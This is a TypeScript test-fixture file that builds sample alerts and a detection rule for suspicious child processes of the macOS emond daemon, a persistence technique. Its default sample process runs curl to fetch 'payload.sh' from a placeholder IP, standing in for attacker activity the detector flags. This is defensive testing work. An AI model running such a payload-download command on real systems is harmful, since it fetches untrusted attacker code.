import type { AlertDocument } from '../../src/alerts/alert-document.js';
import type { AlertRule } from '../../src/alerts/alert-fanout.js';
import type { Severity, ThreatMapping } from '../../src/rules/rule.js';

/**
 * Builders for alert documents and rules in store/alerts tests, standing in for buildAlert() from
 * the detection core: the shape is the shared AlertDocument contract, the values are chosen per test.
 */

export const EMOND_RULE_ID = '3e3d15c6-1509-479a-b125-21718372157e';

export const EMOND_THREAT: ThreatMapping[] = [
  {
    framework: 'MITRE ATT&CK',
    tactic: { id: 'TA0003', name: 'Persistence', reference: 'https://attack.mitre.org/tactics/TA0003/' },
    technique: [
      {
        id: 'T1546',
        name: 'Event Triggered Execution',
        reference: 'https://attack.mitre.org/techniques/T1546/',
        subtechnique: [{ id: 'T1546.014', name: 'Emond', reference: 'https://attack.mitre.org/techniques/T1546/014/' }],
      },
    ],
  },
];

export interface TestRule extends AlertRule {
  severity: Severity;
  risk_score: number;
  version: number;
  description: string;
}

export function testRule(overrides: Partial<TestRule> = {}): TestRule {
  return {
    id: EMOND_RULE_ID,
    name: 'Suspicious Emond Child Process',
    version: 108,
    severity: 'medium',
    risk_score: 47,
    description: 'Identifies a suspicious child process of the Event Monitor Daemon (emond).',
    max_signals: 100,
    interval: '5m',
    note: '## Triage and analysis\n\nCheck /etc/emond.d/rules/ for the rule that ran this command.',
    references: ['https://www.xorrior.com/emond-persistence/'],
    query: 'process where process.parent.name : "emond"',
    source: 'builtin:persistence_emond_rules_process_execution.toml',
    ...overrides,
  };
}

export interface AlertSpec {
  time?: string;
  created?: string;
  pid?: number;
  name?: string;
  executable?: string;
  args?: string[];
  parentPid?: number;
  parentEntity?: string;
  parentName?: string;
  /** Default `/sbin/emond` (the genuine one, which the throttle never holds back). */
  parentExecutable?: string;
  host?: string;
  userId?: string;
  userName?: string;
  rule?: TestRule;
}

export function makeAlert(spec: AlertSpec = {}): AlertDocument {
  const rule = spec.rule ?? testRule();
  const time = spec.time ?? '2025-08-07T13:21:35.880Z';
  const executable = spec.executable ?? '/usr/bin/curl';
  const args = spec.args ?? ['curl', '-fsSL', 'http://203.0.113.7/payload.sh'];
  const pid = spec.pid ?? 4242;
  const parentPid = spec.parentPid ?? 311;
  const user: AlertDocument['user'] = { id: spec.userId ?? '0' };
  if (spec.userName !== undefined) user.name = spec.userName;
  return {
    '@timestamp': time,
    event: {
      kind: 'alert',
      category: ['process'],
      type: ['start'],
      action: 'exec',
      module: 'endpoint-security',
      created: spec.created ?? time,
      severity: 47,
      risk_score: rule.risk_score,
    },
    host: { name: spec.host ?? 'mac-01', os: { type: 'macos', version: '14.5' } },
    process: {
      pid,
      entity_id: `${pid}:2:${time}`,
      name: spec.name ?? executable.slice(executable.lastIndexOf('/') + 1),
      executable,
      args,
      args_count: args.length,
      command_line: args.join(' '),
      parent: {
        pid: parentPid,
        entity_id: spec.parentEntity ?? `${parentPid}:1:2025-08-07T00:00:00.000Z`,
        name: spec.parentName ?? 'emond',
        executable: spec.parentExecutable ?? '/sbin/emond',
      },
    },
    user,
    es: { message_version: 9, pidversion: 2, parent_resolution: 'tree' },
    rule: {
      id: rule.id,
      name: rule.name,
      version: rule.version,
      severity: rule.severity,
      risk_score: rule.risk_score,
      description: rule.description,
      reference: rule.references ?? [],
      author: ['Elastic'],
      license: 'Elastic License v2',
      ruleset: 'builtin',
    },
    threat: EMOND_THREAT,
    emondguard: { count: 1 },
  };
}
